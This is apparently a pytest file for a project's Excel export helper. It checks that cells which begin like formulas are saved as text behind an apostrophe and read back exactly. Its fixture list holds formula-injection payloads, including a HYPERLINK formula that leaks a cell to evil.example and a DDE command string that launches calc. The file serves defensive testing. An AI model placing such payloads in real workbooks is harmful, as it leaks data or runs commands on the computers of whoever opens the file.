"""Every workbook the system writes keeps text as text: a cell that begins like a formula
is written behind an apostrophe as a text cell, read back without it, and no code writes
or reads a workbook except through ``yingji.documents.excel`` (issue 19)."""

from __future__ import annotations

import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from yingji.documents import excel

# What Excel and WPS would evaluate, and text that only looks close to it.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["白石镇", "1-2", "a=b", " =1", "＝1"]
# Text that begins with the apostrophe gets one more, so that reading back is exact.
QUOTED = ["'", "'=1", "''=1", "'plain"]
SRC = Path(__file__).resolve().parents[2] / "src" / "yingji"


def saved(*values: object) -> list[object]:
    book = excel.workbook()
    sheet = book.active
    assert sheet is not None
    for value in values:
        sheet.append([value])
    loaded = load_workbook(io.BytesIO(excel.save(book))).active
    assert loaded is not None
    assert all(cell.data_type != "f" for row in loaded.iter_rows() for cell in row)
    return [row[0].value for row in loaded.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_begins_like_a_formula_is_written_as_text(text: str) -> None:
    book = excel.workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([text])
    sheet.cell(row=2, column=1, value=text)  # written cell by cell, not only by rows
    loaded = load_workbook(io.BytesIO(excel.save(book))).active
    assert loaded is not None
    for cell in (loaded["A1"], loaded["A2"]):
        assert cell.data_type == "s" and cell.value == "'" + text


def test_other_values_are_written_unchanged_and_numbers_and_dates_stay_so() -> None:
    values: list[object] = [*PLAIN, *QUOTED, 42, -3.5, Decimal("-2"), date(2026, 5, 1)]
    got = saved(*values)
    assert got[:5] == PLAIN
    assert got[5:9] == ["'" + text for text in QUOTED]
    assert got[9:12] == [42, -3.5, -2]
    assert isinstance(got[12], datetime) and got[12].date() == date(2026, 5, 1)


@pytest.mark.parametrize("text", [*HOSTILE, *PLAIN, *QUOTED, ""])
def test_reading_back_gives_the_text_exactly(text: str) -> None:
    book = excel.workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["header"])
    sheet.append([text, 7])
    [_header, (number, row)] = excel.rows(excel.save(book))
    assert number == 2 and row == ((text or None), 7)


def test_a_hand_made_apostrophe_that_no_export_writes_is_kept() -> None:
    assert excel.read_cell("'plain") == "'plain"
    assert excel.read_cell("'") == "'"
    assert excel.read_cell(12) == 12


def test_a_file_that_is_not_a_workbook_is_refused() -> None:
    with pytest.raises(excel.NotAWorkbook):
        excel.rows(b"hello")


def test_no_code_writes_or_reads_a_spreadsheet_except_through_the_helper() -> None:
    """A workbook made or saved elsewhere would skip the neutralising: make it with
    excel.workbook(), turn it into bytes with excel.save(), read one with excel.rows()."""
    forbidden = re.compile(r"\bWorkbook\b|load_workbook|xlsxwriter|csv\.(writer|DictWriter)")
    helper = SRC / "documents" / "excel.py"
    found = [
        f"{path.relative_to(SRC)}:{number}: {line.strip()}"
        for path in sorted(SRC.rglob("*.py"))
        if path != helper
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if forbidden.search(line)
    ]
    assert found == []
    assert forbidden.search(helper.read_text(encoding="utf-8"))
